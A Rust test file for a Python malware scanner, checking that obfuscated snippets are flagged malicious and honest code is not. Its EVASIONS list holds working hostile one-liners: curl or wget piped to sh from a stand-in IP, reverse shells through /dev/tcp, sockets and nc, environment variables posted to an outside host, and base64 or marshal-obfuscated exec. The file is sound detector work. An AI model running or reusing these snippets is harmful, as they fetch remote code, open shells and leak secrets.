//! Ways to hide what a program does, each of which runs in Python as it stands.

use bastide_code::{python, python_file};
use bastide_types::Assessment;

#[test]
fn what_is_hidden_is_found() {
    let missed: Vec<&str> = EVASIONS
        .iter()
        .copied()
        .chain(FILES.iter().flat_map(|file| programs(file)))
        .filter(|text| worst(text) != Some(Assessment::Malicious))
        .collect();
    assert!(missed.is_empty(), "{}", missed.join("----\n"));
}

#[test]
fn what_looks_alike_is_not() {
    let alarms: Vec<&str> = programs(HONEST).filter(|text| worst(text) > Some(Assessment::Clean)).collect();
    assert!(alarms.is_empty(), "{}", alarms.join("----\n"));
}

#[test]
fn what_a_model_runs_when_it_is_imported_is_found() {
    let missed: Vec<&str> =
        programs(MODELING).filter(|text| of_model(text) != Some(Assessment::Malicious)).collect();
    assert!(missed.is_empty(), "{}", missed.join("----\n"));
}

#[test]
fn what_honest_models_do_is_not() {
    let alarms: Vec<&str> =
        programs(MODELING_HONEST).filter(|text| of_model(text) > Some(Assessment::Clean)).collect();
    assert!(alarms.is_empty(), "{}", alarms.join("----\n"));
}

#[test]
fn what_a_handler_runs_of_a_request_is_found() {
    let missed: Vec<&str> =
        programs(HANDLERS).filter(|text| of_handler(text) != Some(Assessment::Malicious)).collect();
    assert!(missed.is_empty(), "{}", missed.join("----\n"));
}

#[test]
fn what_honest_handlers_do_is_not() {
    let alarms: Vec<&str> =
        programs(HANDLERS_HONEST).filter(|text| of_handler(text) > Some(Assessment::Clean)).collect();
    assert!(alarms.is_empty(), "{}", alarms.join("----\n"));
}

/// Of a file that a server of models runs.
fn of_handler(text: &str) -> Option<Assessment> {
    python_file("handler.py", text.as_bytes()).iter().map(|remark| remark.rule.effect).max()
}

/// Of a file that loading a model imports.
fn of_model(text: &str) -> Option<Assessment> {
    python_file("modeling_x.py", text.as_bytes()).iter().map(|remark| remark.rule.effect).max()
}

fn worst(text: &str) -> Option<Assessment> {
    python(text).iter().map(|remark| remark.rule.effect).max()
}

/// Programs that a line of dashes parts.
fn programs(file: &str) -> impl Iterator<Item = &str> {
    file.split("----\n")
}

/// By what they hide.
const FILES: &[&str] = &[
    include_str!("evasions/calls.txt"),
    include_str!("evasions/commands.txt"),
    include_str!("evasions/names.txt"),
    include_str!("evasions/programs.txt"),
    include_str!("evasions/spelling.txt"),
    include_str!("evasions/traces.txt"),
];

const MODELING: &str = include_str!("evasions/modeling.txt");

const MODELING_HONEST: &str = include_str!("evasions/modeling_honest.txt");

const HANDLERS: &str = include_str!("evasions/handlers.txt");

const HANDLERS_HONEST: &str = include_str!("evasions/handlers_honest.txt");

const HONEST: &str = include_str!("evasions/honest.txt");

const EVASIONS: &[&str] = &[
    r###"import os as o
x = o.system
x('curl http://198.51.100.7/a|sh')
"###,
    r###"from subprocess import *
Popen(['bash','-c','bash -i >& /dev/tcp/1/2 0>&1'])
"###,
    r###"import base64
def run(c):
    exec(c)
run(base64.b64decode('cHJpbnQoMSk='))
"###,
    r###"class A:
    def f(self):
        import base64
        exec(base64.b64decode(self.x))
"###,
    r###"(lambda: __import__('os').system('id'))()
"###,
    r###"import os
[os.system(c) for c in ['curl http://198.51.100.7/x|bash']]
"###,
    r###"import os
cmd = 'curl http://198.51.100.7/x'
cmd += ' | sh'
os.system(cmd)
"###,
    r###"import os
os.system('%s %s | %s' % ('curl','http://198.51.100.7','sh'))
"###,
    r###"import os
os.system('{} http://198.51.100.7 | {}'.format('curl','sh'))
"###,
    r###"import builtins
builtins.exec(__import__('base64').b64decode('cHJpbnQoMSk='))
"###,
    r###"exec(bytes([112,114,105,110,116,40,49,41]))
"###,
    r###"exec(''.join(map(chr,[112,114,105,110,116])))
"###,
    r###"import os
os.__dict__['system']('id')
"###,
    r###"import sys
sys.modules['os'].system('id')
"###,
    r###"eval('__import__("os").system("id")')
"###,
    r###"import types, marshal, zlib, base64
types.FunctionType(marshal.loads(zlib.decompress(base64.b64decode(x))), globals())()
"###,
    r###"import urllib.request as u
exec(u.urlopen('http://198.51.100.7').read())
"###,
    r###"import requests
r = requests.get('http://198.51.100.7')
code = r.text
exec(compile(code,'a','exec'))
"###,
    r###"import os, requests
env = {k: v for k, v in os.environ.items()}
requests.post('http://198.51.100.7', data=env)
"###,
    r###"import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(('198.51.100.7',1));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])
"###,
    r###"try:
    import os
    os.popen('wget http://198.51.100.7/x -O- | sh').read()
except: pass
"###,
    r###"import ctypes, mmap
m = mmap.mmap(-1, 4096, prot=7)
m.write(b'x')
f = ctypes.CFUNCTYPE(ctypes.c_void_p)(1)
f()
"###,
    r###"import subprocess
subprocess.run(args=['sh','-c','wget http://198.51.100.7/x; sh x'])
"###,
    r###"@exec
@__import__('base64').b64decode
def f(): pass
"###,
    r###"import os
if True: os . system ( 'nc -e /bin/sh 198.51.100.7 1' )
"###,
    r###"from os import system as s
s(command='curl http://198.51.100.7|sh')
"###,
    r###"import asyncio
asyncio.create_subprocess_shell('curl http://198.51.100.7|sh')
"###,
    r###"import os
os.system("""
curl \
 http://198.51.100.7 | \
 sh""")
"###,
    r###"import base64,os
os.environ['A']='x'
exec(base64.b64decode(b'cHJpbnQoMSk='), {})
"###,
    r###"import codecs
getattr(__builtins__, codecs.decode('rkrp','rot13'))('print(1)')
"###,
];
